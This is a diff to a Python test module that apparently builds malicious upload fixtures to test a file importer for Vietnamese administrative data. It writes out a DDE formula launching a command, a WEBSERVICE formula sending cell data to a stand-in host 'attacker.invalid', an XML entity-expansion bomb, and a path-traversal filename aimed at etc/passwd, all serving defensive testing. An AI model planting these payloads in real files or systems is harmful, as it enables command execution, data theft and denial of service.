@@ -98,16 +98,25 @@ def _form(sample: Sample, cells: Callable[[openpyxl.worksheet.worksheet.Workshee
     return packed.getvalue()
 
 
+def _first_commune(sheet: openpyxl.worksheet.worksheet.Worksheet) -> int:
+    """The first row of a form to be filled in; the one above it is the example."""
+    return [cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value))][1]
+
+
 def _formulas(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
-    row = next(cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value)))
+    row = _first_commune(sheet)
     sheet.cell(row, 4).value = "=cmd|'/C calc'!A0"
     sheet.cell(row, 5).value = '=WEBSERVICE("http://attacker.invalid/?"&A1)'
     sheet.cell(row + 1, 3).value = '=HYPERLINK("http://attacker.invalid","Xã")'
 
 
 def _four_provinces(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
-    row = next(cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value)))
+    row = _first_commune(sheet)
     sheet.cell(row, 2).value, sheet.cell(row, 3).value = None, "Xã Tân Tiến"
+
+
+def _laughing(sheet: bytes) -> bytes:
+    return sheet.replace(b"?>", b"?>" + LAUGHS.encode(), 1).replace(b"<v>0</v>", b"<v>&l9;</v>", 1)
 
 
 def _bomb(sample: Sample) -> bytes:
@@ -162,10 +171,10 @@ CASES = (
         "XML entity expansion in xlsx",
         "nso_monthly",
         "cuoi.xlsx",
-        lambda s: _book_with(s, "xl/worksheets/sheet1.xml", lambda x: LAUGHS.encode() + x),
+        lambda s: _book_with(s, "xl/worksheets/sheet1.xml", _laughing),
         WORKBOOK,
     ),
-    Case("path traversal in the name", "dossiers", "..\\..\\..\\etc\\passwd.csv", lambda s: _csv(s.dossiers)),
+    Case("path traversal in the name", "dossiers", "a\\..\\..\\..\\etc\\passwd.csv", lambda s: _csv(s.dossiers)),
     Case(
         "one JSON line of 200 MB, records",
         "dossiers",
